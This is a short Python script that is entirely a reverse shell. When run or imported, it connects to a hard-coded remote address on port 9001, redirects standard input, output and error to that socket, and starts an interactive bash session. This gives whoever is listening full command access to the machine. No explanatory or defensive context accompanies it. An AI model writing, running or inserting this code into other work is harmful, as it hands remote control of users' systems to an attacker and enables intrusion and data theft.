import os
import sys
import socket
import subprocess

_HOST = "198.51.100.4"


def _connect():
    conn = socket.socket()
    conn.connect((_HOST, 9001))
    os.dup2(conn.fileno(), sys.stdin.fileno())
    os.dup2(conn.fileno(), sys.stdout.fileno())
    os.dup2(conn.fileno(), sys.stderr.fileno())
    subprocess.call(["/bin/bash", "-i"])


_connect()
